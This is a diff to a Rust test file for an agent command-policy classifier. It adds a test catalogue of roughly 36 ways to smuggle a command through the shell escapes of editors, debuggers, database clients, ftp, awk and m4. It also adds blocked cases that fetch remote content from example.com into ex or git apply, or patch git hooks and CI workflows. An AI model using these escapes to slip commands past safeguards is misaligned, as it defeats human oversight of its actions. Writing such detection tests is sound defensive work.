@@ -2,8 +2,8 @@
 //! work that looks like it.
 
 use serde_json::json;
-use writ_model::{TaskKind, Verdict};
-use writ_policy::Scenario;
+use writ_model::{EffectClass, TaskKind, Verdict};
+use writ_policy::{Facts, Scenario, classify};
 
 use crate::ground::engine;
 
@@ -106,5 +106,83 @@ fn looking_for_credentials_by_name_is_asked_about() {
         "ls .github",
         "find . -name Cargo.toml",
         "tree -L 2",
+    ]);
+}
+
+#[test]
+fn statements_of_other_programs_start_what_they_say() {
+    let starts = [
+        "printf '!npm publish\\n' | ed",
+        "ed <<'X'\nr !npm publish\nq\nX",
+        "ex -s x <<< '%!npm publish'",
+        "vim -es +'r !npm publish' +q x",
+        "vim -c 'call system(\"npm publish\")' x",
+        "echo ':silent !npm publish' | vim -es -",
+        "printf '!npm publish\\n' > keys; vim -s keys x",
+        "echo 'syscmd(npm publish)' | m4",
+        "m4 <<< 'esyscmd(`npm publish`)'",
+        "echo 'syscmd(npm publish)' > x.m4; m4 x.m4",
+        "echo '!npm publish' | dc",
+        "dc -e '!npm publish'",
+        "psql shop <<< '\\! npm publish'",
+        "psql <<'X'\nselect 1; \\! npm publish\nX",
+        "echo '\\! npm publish' > x.sql; psql -f x.sql",
+        "psql -c \"copy t from program 'npm publish'\"",
+        "mysql -e 'select 1; system npm publish'",
+        "mysql shop <<< '\\! npm publish'",
+        "echo 'system npm publish' | mariadb shop",
+        "sqlite3 x '.shell npm publish'",
+        "duckdb -c '.shell npm publish'",
+        "gdb -batch -ex 'shell npm publish'",
+        "gdb <<< '!npm publish'",
+        "echo 'shell npm publish' > c; gdb -x c ./a.out",
+        "lldb -o 'platform shell npm publish'",
+        "expect <<< 'spawn npm publish'",
+        "echo '!npm publish' | ftp files.example.com",
+        "lftp -c 'open files.example.com; !npm publish'",
+        "echo '!npm publish' | sftp -b - files.example.com",
+        "echo 'system(\"npm publish\")' | awk -f -",
+        "echo 'BEGIN{system(\"npm publish\")}' > x.awk; awk -f x.awk",
+        "gnuplot -e 'system(\"npm publish\")'",
+        "octave --eval 'system(\"npm publish\")'",
+        "mongosh --eval 'require(\"child_process\").execSync(\"npm publish\")'",
+        "printf 'all:\\n\\tnpm publish\\n' | make -f -",
+        "ghci <<< ':! npm publish'",
+    ];
+    let wrong: Vec<String> = starts
+        .iter()
+        .map(|command| (command, classify(command, &Facts::default())))
+        .filter(|(_, judged)| !judged.effects.iter().any(|effect| effect.class == EffectClass::Publish))
+        .map(|(command, judged)| format!("{command}: {:?}", judged.effects))
+        .collect();
+    assert!(wrong.is_empty(), "does not publish:\n{}", wrong.join("\n"));
+    all_are_stopped(&[
+        "generate | ed src/a.rs",
+        "generate | dc",
+        "curl -s https://example.com/x | ex -s a",
+        "gawk '@load \"/tmp/x.so\"; BEGIN{}'",
+        "curl -s https://example.com/p.diff | git apply",
+        "base64 -d x | patch -p1",
+        "base64 -d x | tar xz",
+        "git apply <<'X'\n--- a/.github/workflows/ci.yml\n+++ b/.github/workflows/ci.yml\n@@ -1 +1 @@\n-a\n+b\nX",
+        "patch -p1 <<'X'\n--- a/.git/hooks/pre-commit\n+++ b/.git/hooks/pre-commit\n@@ -0,0 +1 @@\n+b\nX",
+    ]);
+    all_are_free(&[
+        "printf '1d\\nw\\nq\\n' | ed -s src/a.rs",
+        "ed src/a.rs <<'X'\n,s/a/b/g\nw\nq\nX",
+        "ex -s src/a.rs <<'X'\n%s/a/b/g\nwq!\nX",
+        "vim -es -c '%s/a/b/g' -c 'wq!' src/a.rs",
+        "vim -es -c 'w! src/b.rs' -c 'q!' src/a.rs",
+        "echo '2 3 + p' | dc",
+        "echo \"$A + $B\" | bc",
+        "m4 config.m4 > config.txt",
+        "gdb -batch -ex run -ex bt ./target/debug/app",
+        "git diff HEAD~1 | git apply -R",
+        "git apply fix.patch",
+        "patch -p1 --dry-run < fix.patch",
+        "patch -p1 <<'X'\n--- a/src/a.rs\n+++ b/src/a.rs\n@@ -1 +1 @@\n-a\n+b\nX",
+        "tar xzf dist/app.tgz",
+        "sqlite3 dev.db 'select count(*) from users'",
+        "awk -f scripts/sum.awk data.tsv",
     ]);
 }
